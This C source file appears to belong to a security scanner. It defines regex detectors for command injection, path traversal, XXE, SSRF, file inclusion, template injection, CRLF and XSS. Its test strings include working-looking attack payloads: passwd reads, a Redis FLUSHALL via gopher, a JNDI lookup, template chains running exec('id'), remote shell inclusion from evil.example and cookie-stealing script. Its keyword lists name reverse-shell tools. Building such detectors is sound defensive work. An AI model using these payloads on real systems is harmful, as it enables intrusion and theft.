/* system.c - attacks on files, shells, servers, templates and browsers. */
#include "base/slice.h"
#include "detectors/appsec/appsec.h"

#include <ctype.h>
#include <string.h>

/* A command after a separator: surer when the separator ends a value. */
static int confirm_command(struct sight *s)
{
	static const char *const sure[] = { "/etc/passwd", "/etc/shadow",
					    "/dev/tcp/", "nc -e", "whoami" };
	char c = appsec_before(s);
	uint32_t i = s->from;

	if (c == '\0' || !strchr(";|&`(", c) ||
	    (c == '(' && !appsec_follows(s, "$(", 3)))
		return 0;
	while (i > 0 && strchr(";|&`($ ", s->text[i - 1]))
		i--;
	bool value = i == 0 || isdigit((unsigned char)s->text[i - 1]) ||
		     s->text[i - 1] == '"' || s->text[i - 1] == '\'';
	for (size_t k = 0; k < ARRAY_LEN(sure); k++) {
		size_t len = strlen(sure[k]);

		for (uint32_t at = s->from; at + len <= s->to; at++)
			if (!strncasecmp(s->text + at, sure[k], len))
				return 90;
	}
	return value ? 80 : 40;
}

/* Words of Python's insides mean nothing outside a template. */
static int confirm_template(struct sight *s)
{
	return appsec_follows(s, "{{", 120) || appsec_follows(s, "{%", 120) ||
			       appsec_follows(s, "${", 120)
		       ? 92
		       : 0;
}

#define PLACE                                                                  \
	"(?:etc/|proc/|var/|root/|windows|winnt|boot\\.ini|home/|usr/|"        \
	"web-inf|\\.ssh|\\.env|\\.git)"
#define CALL                                                                   \
	"(?:alert|prompt|confirm|eval|fetch|atob|document\\.(?:cookie|write|"  \
	"location)|window\\.|location|String\\.fromCharCode|new Image|import)"

static const struct row rows[] = {
	{ "appsec.command", "Command injection", "appsec.injection",
	  "cat /|/bin/sh|/bin/bash|wget http|curl http|rm -rf|whoami|"
	  "uname -a|ping -c|ping -n|net user|cmd\\.exe|cmd /c|nc -e|/dev/tcp/|"
	  "chmod 777|powershell|python -c|python3 -c|perl -e|sleep |bash -i|"
	  "bash -c|sh -c",
	  "(?i)(?:cat\\s+/\\S+|/bin/(?:ba)?sh\\b|(?:wget|curl)\\s+https?://"
	  "\\S+|rm\\s+-rf\\s+\\S+|whoami\\b|uname -a|ping -[cn]\\s+\\d+|"
	  "net user\\b|cmd(?:\\.exe)?\\s*/c|nc -e\\s+\\S+|/dev/tcp/\\S+|chmod "
	  "777|powershell\\s+-\\w+|(?:python3?|perl) -[ce]\\b|sleep \\d+|"
	  "bash -[ic]\\b.{0,60}|sh -c\\b)",
	  LOOK, .confirm = confirm_command, .alias = "command_injection",
	  .hit = { "127.0.0.1; cat /etc/passwd", "name=x'&& whoami" },
	  .miss = { "The cat / dog question", "run whoami to see your name" } },
	{ "appsec.path", "Path traversal", "appsec.injection",
	  "\\.\\./\\.\\.|\\.\\.\\\\\\.\\.|\\.\\.\\.\\.//|\\.\\.;/",
	  "(?i)(?:\\.\\.[/\\\\]|\\.\\.\\.\\.//|\\.\\.;/){2,12}" PLACE, LOOK,
	  .score = 90, .alias = "path_traversal",
	  .hit = { "file=../../../etc/passwd", "..\\..\\windows\\win.ini" },
	  .miss = { "import x from '../../lib/x'", "wait ... what" } },
	{ "appsec.path", "Path traversal in an encoding", NULL,
	  "\\.\\.%2f|\\.\\.%5c|%2e%2e|\\.\\.%c0%af|\\.\\.%252f|%252e%252e",
	  "(?i)(?:(?:\\.|%(?:25)?2e){2}(?:/"
	  "|\\\\|%(?:25)?(?:2f|5c)|%c0%af)){1,}",
	  LOOK, .score = 90,
	  .hit = { "GET /..%2f..%2fetc/passwd", "%2e%2e%2fsecret" },
	  .miss = { "1..%2", "100%2e" } },
	{ "appsec.path", "A file that attacks ask for", NULL,
	  "/etc/passwd|/etc/shadow|/proc/self/|\\\\boot\\.ini|\\\\win\\.ini|"
	  "/web-inf/",
	  "(?i)(?:/etc/(?:passwd|shadow)(?:%00)?|/proc/self/(?:environ|cmdline"
	  "|fd)|\\\\(?:boot|win)\\.ini|/web-inf/web\\.xml)",
	  LOOK, .score = 50,
	  .hit = { "open /etc/shadow", "/proc/self/environ" },
	  .miss = { "/etc/password-policy.txt is fine? /etc/pass",
		    "/proc/selfie" } },
	{ "appsec.xml", "XML with entities from outside (XXE)",
	  "appsec.injection", "<!entity|<xi:include",
	  "(?i)(?:<!ENTITY\\s+(?:%\\s+)?[\\w.:-]+\\s+(?:(?:SYSTEM|PUBLIC)\\s+"
	  "['\"]|['\"](?:&\\w+;){2})|<xi:include\\s[^>]{0,80}href)",
	  LOOK, .score = 92, .alias = "xml_injection xxe appsec.xxe",
	  .hit = { "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
		   "<!ENTITY b \"&a;&a;&a;\">" },
	  .miss = { "<!ENTITY copy \"(c)\">", "<entity name=\"x\"/>" } },
	{ "appsec.ssrf", "Address of a cloud's metadata", "appsec.injection",
	  "169\\.254\\.169\\.254|metadata\\.google|100\\.100\\.100\\.200|fd00:"
	  "ec2::254|"
	  "169\\.254\\.170\\.2|metadata\\.azure",
	  "(?i)(?:169\\.254\\.(?:169\\.254|170\\.2)|metadata\\.google\\."
	  "internal|metadata\\.azure\\.(?:com|internal)|100\\.100\\.100\\.200|"
	  "fd00:ec2::254)\\b",
	  LOOK, .score = 85, .alias = "server_side_request_forgery",
	  .hit = { "http://169.254.169.254/latest/meta-data/",
		   "http://metadata.google.internal/" },
	  .miss = { "169.254.169.25", "100.100.100.2001" } },
	{ "appsec.ssrf", "Protocols that speak to inner services", NULL,
	  "gopher://|dict://|ldap://127|tftp://|http://0x|http://0/|"
	  "http://\\[::|//2130706433|//0177\\.|\\.nip\\.io|\\.xip\\.io|//"
	  "127\\.1/",
	  "(?i)(?:gopher://\\S|dict://\\S+:\\d|ldap://127|tftp://\\S|https?://"
	  "(?:0x[0-9a-f]{2,}|0/|\\[::)|//2130706433|//0177\\.|\\d\\.[nx]ip\\."
	  "io|//127\\.1/|\\.[nx]ip\\.io)",
	  LOOK, .score = 80,
	  .hit = { "url=gopher://127.0.0.1:6379/_FLUSHALL",
		   "http://0x7f000001/admin" },
	  .miss = { "the gopher ran", "http://0.example" } },
	{ "appsec.ssrf", "Address of this machine or an inner net", NULL,
	  "//127\\.0\\.0\\.1|//localhost|//10\\.|//192\\.168\\.|//"
	  "0\\.0\\.0\\.0|//172\\.",
	  "(?i)//(?:127\\.\\d+\\.\\d+\\.\\d+|localhost|10\\.\\d+\\.\\d+\\.\\d+|"
	  "192\\.168\\.\\d+\\.\\d+|0\\.0\\.0\\.0|172\\.(?:1[6-9]|2\\d|3[01])"
	  "\\.\\d+\\.\\d+)(?=[:/\\s\"')]|$)",
	  LOOK, .score = 35,
	  .hit = { "http://127.0.0.1:8080/", "https://10.0.0.5/admin" },
	  .miss = { "//10.5 percent", "http://172.217.1.1/" } },
	{ "appsec.file_inclusion", "File inclusion", "appsec.injection",
	  "php://|expect://|phar://|data://text|file:///etc|file:///proc|"
	  "file:///c:",
	  "(?i)(?:php://(?:filter|input|memory|temp)|expect://\\w|phar://\\S+|"
	  "data://text/plain|file:///(?:etc|proc|c:))",
	  LOOK, .score = 82, .alias = "rfi lfi",
	  .hit = { "page=php://filter/convert.base64-encode/resource=index",
		   "file:///etc/passwd" },
	  .miss = { "the php:// scheme", "file:///home/ann/a.txt" } },
	{ "appsec.file_inclusion", "A file from elsewhere", NULL,
	  "file=http|page=http|include=http|path=http|template=http|"
	  "inc=http|file=ftp:|page=ftp:",
	  "(?i)\\w+=(?:https?|ftp)://\\S+", LOOK, .score = 70,
	  .hit = { "/?page=http://evil.example/shell.txt",
		   "index.php?file=ftp://evil.example/x" },
	  .miss = { "page=httpd", "url=https://example.com" } },
	{ "appsec.template", "Template injection", "appsec.injection",
	  "__class__|__mro__|__subclasses__|__globals__|__builtins__|"
	  "\\.constructor\\.constructor|java\\.lang\\.runtime|getruntime\\(|"
	  "t\\(java\\.|freemarker\\.template",
	  NULL, LOOK, .confirm = confirm_template,
	  .alias = "template_injection ssti",
	  .hit = { "{{ ''.__class__.__mro__[1].__subclasses__() }}",
		   "${T(java.lang.Runtime).getRuntime().exec('id')}" },
	  .miss = { "print(x.__class__)", "Runtime.getRuntime().exec(x)" } },
	{ "appsec.template", "A sum to see whether it is done", NULL,
	  "\\{\\{[0-9]|\\$\\{[0-9]|#\\{[0-9]|<%= [0-9]|\\$\\{jndi:|"
	  "\\$\\{\\$\\{|\\{\\{config|\\{\\{self",
	  "(?i)(?:(?:\\{\\{|[$#]\\{|<%= )\\d+\\s*\\*\\s*'?\\d+'?\\s*(?:\\}|%>)|"
	  "\\$\\{jndi:\\w+:|\\$\\{\\$\\{(?:lower|upper|env|::-)|\\{\\{(?:config"
	  "(?:\\.items|\\})|self\\._))",
	  LOOK, .score = 90,
	  .hit = { "name={{7*7}}", "${jndi:ldap://x.example/a}" },
	  .miss = { "{{0}} of {{1}}", "${1} and ${2}" } },
	{ "appsec.header", "Header injection (CRLF)", "appsec.injection",
	  "%0d%0a|%0aset-|%0aloca|%0acont|%0ahttp|%0d set|%e5%98%8a",
	  "(?i)(?:(?:%0d|%0a|%e5%98%8a|%e5%98%8d)\\s?)+(?:set-"
	  "cookie|location|content-(?:type|length)|transfer-encoding|refresh|"
	  "host|x-[\\w-]{2,30}|http/1\\.[01])\\s?(?::|%3a|%20| 200)",
	  LOOK, .score = 88, .alias = "crlf_injection header_injection",
	  .hit = { "/?q=a%0d%0aSet-Cookie:%20admin=1",
		   "x%0aLocation: http://evil.example" },
	  .miss = { "a%0d%0ab", "line\\r\\nline" } },
	{ "appsec.xss", "Script in a page (XSS)", "appsec.injection", "<script",
	  "(?i)<script[^>]{0,120}>[^<]{0,80}?" CALL "\\s*[(.=`]", LOOK,
	  .score = 75, .alias = "cross_site_scripting",
	  .hit = { "<script>alert(1)</script>",
		   "<script>document.location='//x.example'</script>" },
	  .miss = { "<script src=\"app.js\"></script>",
		    "a script for the play" } },
	{ "appsec.xss", "A value that becomes a tag", NULL,
	  "\"><s|'><s|\"><i|'><i|\"><b|'><b",
	  "(?i)['\"]\\s*/?><(?:script|svg|img|iframe|body)\\b[^>]{0,120}(?:on"
	  "\\w+\\s*=|src\\s*=|>)",
	  LOOK, .score = 45,
	  .hit = { "q=\"><script>x</script>", "'><img src=x onerror=y>" },
	  .miss = { "\"><span>", "'><b>bold</b>" } },
	{ "appsec.xss", "Script in an attribute", NULL,
	  "onerror=|onload=|onfocus=|onmouseover=|onclick=|ontoggle=|"
	  "onanimationstart=|onpointerenter=|javascript:|srcdoc=|vbscript:",
	  "(?i)(?:on\\w+\\s*=\\s*['\"]?\\s*(?:javascript:)?\\s*" CALL
	  "\\s*[(.=`]|javascript:\\s*(?://)?[^\\s]{0,20}?" CALL
	  "\\s*[(.=`]|srcdoc\\s*=\\s*['\"]?(?:<|&lt;)script|vbscript:\\s*"
	  "msgbox)",
	  LOOK, .score = 82,
	  .hit = { "<img src=x onerror=alert(1)>",
		   "<a href=\"javascript:alert(document.cookie)\">" },
	  .miss = { "<button onclick=\"save()\">", "javascript: the good" } },
};

const struct family family_appsec_system = {
	"appsec", rows, ARRAY_LEN(rows), 0, NULL,
};
